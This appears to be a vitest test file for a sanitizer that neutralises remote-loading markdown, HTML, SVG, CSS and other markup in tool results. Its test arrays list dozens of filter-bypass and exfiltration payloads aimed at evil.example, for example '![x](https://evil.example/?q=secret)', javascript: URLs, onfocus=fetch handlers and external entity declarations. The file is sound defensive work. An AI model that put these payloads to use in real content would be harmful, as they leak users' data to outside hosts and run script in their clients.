import type { Json } from '@callgate/core';
import { parseStrict } from '@callgate/core/receive';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { makeRemoteContentInert } from './make-remote-content-inert.ts';

const ALLOWED = ['good.example', '*.cdn.example'];
const inert = (text: Json): Json => makeRemoteContentInert(text, ALLOWED).result;

/** Every one of them makes some reader fetch from evil.example, or run, without anybody choosing it. */
const MARKDOWN_THAT_LOADS = [
  '![x](https://evil.example/?q=secret)',
  '![x](<https://evil.example/?q=secret>)',
  '![x](  https://evil.example/a.png  "title")',
  '![](//evil.example/a.png)',
  '![x](https:\\\\evil.example/a.png)',
  '![x](https:/evil.example/a.png)',
  '![x](HTTPS://EVIL.EXAMPLE/a.png)',
  '![x](https&colon;//evil.example/a.png)',
  '![x](&#104;ttps://evil.example/a.png)',
  '![x](https\\://evil.example/a.png)',
  '![x](\u0001//evil.example/a.png)',
  '![x](https://good.example@evil.example/a.png)',
  '![x](https://good.example.evil.example/a.png)',
  '![x](https://evil.example\\@good.example/a.png)',
  '![x](https://cdn.example/a.png)',
  '![a [b](https://good.example/) c](https://evil.example/a.png)',
  '![a\nb](https://evil.example/a.png)',
  '![a][ref]\n\n[ref]: https://evil.example/a.png',
  '![ref]\n\n[ref]: https://evil.example/a.png',
  '![ref][]\n\n[ref]: <https://evil.example/a.png>',
  '[![x](https://evil.example/a.png)](https://good.example/)',
  '![[https://evil.example/a.png]]',
  '![x](javascript:alert(1))',
  '![x](data:text/html,hello)',
];

const HTML_THAT_LOADS = [
  '<img src="https://evil.example/a.png">',
  '<IMG SRC=https://evil.example/a.png>',
  '<img/src=//evil.example/a.png>',
  "<img alt='>' src='https://evil.example/a.png'>",
  '<img a" b=">" src=//evil.example>',
  '<img src="https&#58;//evil.example/a.png">',
  '<img src="https&colon;&sol;&sol;evil.example/a.png">',
  '<img src="ht\ntps://evil.example/a.png">',
  '<img src=" \u0001https://evil.example/a.png">',
  '<img src="\\\\evil.example\\a.png">',
  '<img src="/\\evil.example/a.png">',
  '<img srcset="a.png 1x, https://evil.example/a.png 2x">',
  '<img src=https://evil.example/a.png',
  '<source srcset=//evil.example/a>',
  '<video poster=https://evil.example/a.png>',
  '<audio src=https://evil.example/a.mp3>',
  '<iframe src=https://evil.example>',
  '<iframe srcdoc="&lt;img src=x&gt;">',
  '<iframe src="javascript:fetch(1)">',
  '<iframe src="data:text/html,hello">',
  '<object data=https://evil.example/a.swf>',
  '<embed src=https://evil.example/a.swf>',
  '<link rel=stylesheet href=https://evil.example/a.css>',
  '<link rel=prefetch href=//evil.example>',
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<body background=https://evil.example/a.png>',
  '<p style="background:url(https://evil.example/a.png)">',
  '<p style="background:url(\\68ttps:\\2f\\2f evil.example)">',
  '<a style="background:url(//evil.example)" href=#>',
  '<style>@import "https://evil.example/a.css";</style>',
  '<style>p{background:url(//evil.example)}',
  '<style>@import "\\2f\\2f evil.example"</style>',
  '<script>fetch("x")</script>',
  '<script src=https://evil.example/a.js>',
  '<svg><image href=https://evil.example/a.png />',
  '<svg><image xlink:href="https://evil.example/a.png"/>',
  '<svg><rect fill="url(https://evil.example/#a)">',
  '<svg><animate attributeName=href values="//evil.example">',
  '<input type=image src=https://evil.example/a.png>',
  '<p onfocus=fetch(1) autofocus tabindex=0>',
  '<!DOCTYPE a SYSTEM "https://evil.example/a.dtd">',
  '<!ENTITY a SYSTEM "http://evil.example/a">',
  '<?xml-stylesheet href="https://evil.example/a.css"?>',
];

/** Tags that load nothing themselves, and may stay. */
const QUIET_TAG = /<(?:svg)>/g;

describe('what loads by itself', () => {
  it.each(MARKDOWN_THAT_LOADS)('is an image no more: %j', (text) => {
    expect(inert(text)).not.toMatch(/!\[/);
  });

  it.each(HTML_THAT_LOADS)('is a tag no more: %j', (text) => {
    expect(String(inert(text)).replace(QUIET_TAG, '')).not.toMatch(/<[a-z!?]/i);
  });

  it.each([
    ['image::https://evil.example/a.png[x]', 'image::inert:https://evil.example/a.png[x]'],
    ['.. image:: https://evil.example/a.png', '.. image:: inert:https://evil.example/a.png'],
    ['.. |x| figure:: //evil.example/a.png', '.. |x| figure:: inert://evil.example/a.png'],
    ['[img]https://evil.example/a.png[/img]', '[img]inert:https://evil.example/a.png[/img]'],
    [
      '\\includegraphics[width=1em]{https://evil.example/a.png}',
      '\\includegraphics[width=1em]{inert:https://evil.example/a.png}',
    ],
  ])('is inert in other markup: %j', (text, expected) => {
    expect(inert(text)).toBe(expected);
  });

  it('is inert in other markup however long its address is', () => {
    const long = `https://${'x'.repeat(280)}.cdn.example:${'y'.repeat(300)}@evil.example/a.png`;
    expect(inert(`[img]${long}[/img]`)).toBe(`[img]inert:${long}[/img]`);
    expect(inert(`image::${long}[x]`)).toBe(`image::inert:${long}[x]`);
  });

  it('becomes what somebody can still read and choose', () => {
    expect(inert('see ![chart](https://evil.example/a.png) here')).toBe(
      'see ! [chart](https://evil.example/a.png) here',
    );
    expect(inert('a <img src=//evil.example> b')).toBe('a &lt;img src=//evil.example> b');
  });

  it('is found wherever it hides, also inside the value of another tag', () => {
    expect(inert('<p title="</p><img src=//evil.example>">')).toBe(
      '<p title="</p>&lt;img src=//evil.example>">',
    );
    expect(inert('<style>a</style><b>x</b><img src=//evil.example>')).toBe(
      '<style>a</style><b>x</b>&lt;img src=//evil.example>',
    );
  });

  it('is found after anything else, and is inert after a second time too', () => {
    const loading = fc.constantFrom(...MARKDOWN_THAT_LOADS, ...HTML_THAT_LOADS);
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme', maxLength: 40 }), loading, (before, text) => {
        const once = String(inert(`${before}\n\n${text}`));
        expect(once).not.toBe(`${before}\n\n${text}`);
        expect(inert(once)).toBe(once);
      }),
      { numRuns: process.env['CALLGATE_DEEP'] === '1' ? 50_000 : 500 },
    );
  });
});

describe('what does not load by itself', () => {
  it.each([
    'plain words, 1 < 2 and a > b, x <- y',
    'a link [x](https://evil.example/) and <https://evil.example/> and https://evil.example/',
    '<a href="https://evil.example/" title=x>x</a>',
    '![x](https://good.example/a.png)',
    '![x](https://a.cdn.example:8443/a.png "title")',
    '![x](images/a.png) ![y](/a.png) ![z](data:image/png;base64,AAAA)',
    '<img src="https://good.example/a.png" alt="https://evil.example">',
    '<img src=a.png><p style="color: red">x</p><br/>',
    '<style>p { background: url(https://good.example/a.png) }</style>',
    '<!doctype html><!-- https://evil.example -->',
    'let v = vec![1, 2];',
    'image::a.png[x] [img]a.png[/img]',
  ])('stays as it is: %j', (text) => {
    expect(makeRemoteContentInert(text, ALLOWED)).toEqual({ result: text, changed: 0 });
  });
});

describe('a result', () => {
  it('is gone through whole, and is the same value where nothing was changed', () => {
    const quiet: Json = { content: [{ type: 'text', text: 'hello' }], n: [1, true, null] };
    expect(makeRemoteContentInert(quiet)).toEqual({ result: quiet, changed: 0 });
    expect(makeRemoteContentInert(quiet).result).toBe(quiet);
    const loud: Json = {
      content: [{ type: 'text', text: '![x](//evil.example)' }],
      structuredContent: { deep: [['<img src=//evil.example>']] },
      quiet,
    };
    const { result, changed } = makeRemoteContentInert(loud);
    expect(changed).toBe(2);
    expect(result).toEqual({
      content: [{ type: 'text', text: '! [x](//evil.example)' }],
      structuredContent: { deep: [['&lt;img src=//evil.example>']] },
      quiet,
    });
  });

  it('has links to resources and icons only on hosts on the list', () => {
    const link = (uri: string, src: string): Json => ({
      type: 'resource_link',
      uri,
      name: 'x',
      icons: [{ src }],
    });
    expect(inert(link('https://evil.example/a', 'https://evil.example/i.png'))).toEqual(
      link('inert:https://evil.example/a', 'inert:https://evil.example/i.png'),
    );
    expect(inert(link('file://evil.example/share', 'data:image/png;base64,AA'))).toEqual(
      link('inert:file://evil.example/share', 'data:image/png;base64,AA'),
    );
    const done = link('inert:https://evil.example/a', '/i.png');
    expect(inert(done)).toBe(done);
    const near = link('https://good.example/a', '/i.png');
    expect(inert(near)).toBe(near);
  });

  it('has no address that a client fetches as a picture', () => {
    expect(inert({ type: 'image', url: 'https://evil.example/a' })).toEqual({
      type: 'image',
      url: 'inert:https://evil.example/a',
    });
    expect(inert({ type: 'image_url', image_url: { url: 'https://evil.example/a' } })).toEqual({
      type: 'image_url',
      image_url: { url: 'inert:https://evil.example/a' },
    });
    const other: Json = { type: 'issue', url: 'https://evil.example/a' };
    expect(inert(other)).toBe(other);
  });

  it('keeps keys that objects have a meaning for', () => {
    const result = inert(parseStrict('{"__proto__":"![x](//evil.example)","constructor":1}'));
    expect(Object.entries(result as object)).toEqual([
      ['__proto__', '! [x](//evil.example)'],
      ['constructor', 1],
    ]);
  });
});

describe('a hostile text', () => {
  // a reader that goes back for each of them would not come to an end here
  it.each([
    '<a ',
    '<a',
    '<style>',
    '<a b="',
    '![',
    '![x](',
    '<!a ',
    '[img]',
    '\\includegraphics{',
    '&#',
    'image:',
  ])('made of %j is gone through to its end', (unit) => {
    const text = String(inert(`${unit.repeat(200_000)}](x)<img src=//evil.example>`));
    expect(text).toContain('&lt;img src=//evil.example>');
  });

  it('that has been read often enough keeps no tag at all', () => {
    expect(inert('<b '.repeat(100_000))).toMatch(/^(?:<b )+(?:&lt;b )+$/);
  });
});
